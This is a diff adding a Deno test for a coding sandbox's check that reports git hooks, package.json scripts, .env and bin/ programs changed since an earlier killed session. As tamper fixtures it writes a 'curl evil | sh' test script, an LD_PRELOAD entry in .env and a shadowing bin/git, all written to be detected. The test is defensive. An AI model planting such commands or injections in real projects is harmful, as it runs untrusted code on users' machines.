@@ -202,3 +202,61 @@ Deno.test("The packs a killed session wrote are handed on for git to check, with
   ok(checks.objectFiles[0]!.files.some((file) => file.kind === "pack"), JSON.stringify(checks.objectFiles));
   await checks.done();
 });
+
+Deno.test("What a killed session's hooks would run and its .envrc would load, changed since, is reported by the next", async () => {
+  await using workspace = await createTempWorkspace();
+  await using state = await createTempWorkspace("mewcode-state-");
+  const root = workspace.root;
+  const folder = join(state.root, "set-aside");
+  await createRepository(root);
+  await Deno.writeTextFile(join(root, "package.json"), '{"scripts": {"test": "echo tests pass"}}\n');
+  await Deno.writeTextFile(join(root, ".git/hooks/pre-commit"), "#!/bin/sh\nnpm test\n", { mode: 0o755 });
+  await Deno.writeTextFile(join(root, ".envrc"), "dotenv\nPATH_add bin\n");
+  await Deno.writeTextFile(join(root, ".env"), "A=1\n");
+  await Deno.mkdir(join(root, "bin"));
+  // The session takes its baselines, as ShellSandbox does before its first call, and is killed.
+  const sandbox = (name: string) => new URL(`../../src/sandbox/${name}`, import.meta.url).href;
+  const script = [
+    `const { recordGitBaseline } = await import(${JSON.stringify(sandbox("_unchecked_git_scan.ts"))});`,
+    `const { scanGitMetadata } = await import(${JSON.stringify(sandbox("git_scan.ts"))});`,
+    `const { recordHookTasks } = await import(${JSON.stringify(sandbox("git_hook_tasks.ts"))});`,
+    `const { recordDirenvFiles } = await import(${JSON.stringify(sandbox("direnv_files.ts"))});`,
+    `const { userGitConfig } = await import(${JSON.stringify(sandbox("_user_git_config.ts"))});`,
+    `const root = ${JSON.stringify(root)};`,
+    'const user = userGitConfig({ GIT_CONFIG_GLOBAL: "/dev/null", GIT_CONFIG_NOSYSTEM: "1" });',
+    "const scan = await scanGitMetadata(root);",
+    "const roots = [{ root, startedAt: scan.startedAt, complete: scan.complete, findings: scan.findings }];",
+    "const hookTasks = await recordHookTasks([root], { nestedDotGits: [], user });",
+    'const direnv = await recordDirenvFiles([root + "/.envrc"], [root]);',
+    `const held = await recordGitBaseline(${JSON.stringify(folder)}, roots, { hookTasks, direnv });`,
+    "Deno.exit(held !== null && hookTasks.length > 0 && direnv.length === 2 ? 0 : 3);",
+  ].join("\n");
+  const killedSession = async () => {
+    const output = await new Deno.Command(Deno.execPath(), { args: ["eval", script], stderr: "piped" })
+      .output();
+    equal(output.code, 0, new TextDecoder().decode(output.stderr));
+  };
+  await killedSession();
+  // Unchanged: nothing to say.
+  const quiet = await checkEarlierSessions(folder, { roots: [root], user: USER });
+  deepStrictEqual(quiet.lines, []);
+  await quiet.done();
+  await killedSession();
+  await Deno.writeTextFile(join(root, "package.json"), '{"scripts": {"test": "curl evil | sh"}}\n');
+  await Deno.writeTextFile(join(root, ".env"), "LD_PRELOAD=/tmp/x.so\n");
+  await Deno.writeTextFile(join(root, "bin/git"), "#!/bin/sh\n", { mode: 0o755 });
+  const checks = await checkEarlierSessions(folder, { roots: [root], user: USER });
+  const said = checks.lines.join("\n");
+  equal(checks.lines.length, 3, said);
+  for (const line of checks.lines) {
+    match(line, /^An earlier session in this workspace \(started .*\) ended before/);
+  }
+  match(
+    said,
+    /since then: package\.json changed during the session, and `npm test` in \.git\/hooks\/pre-commit/,
+  );
+  match(said, /since then: \.env changed during the session, and `dotenv` in \.envrc loads it/);
+  match(said, /since then: bin gained or changed 1 program during the session \(git\)/);
+  await checks.done();
+  deepStrictEqual(await records(folder), []);
+});
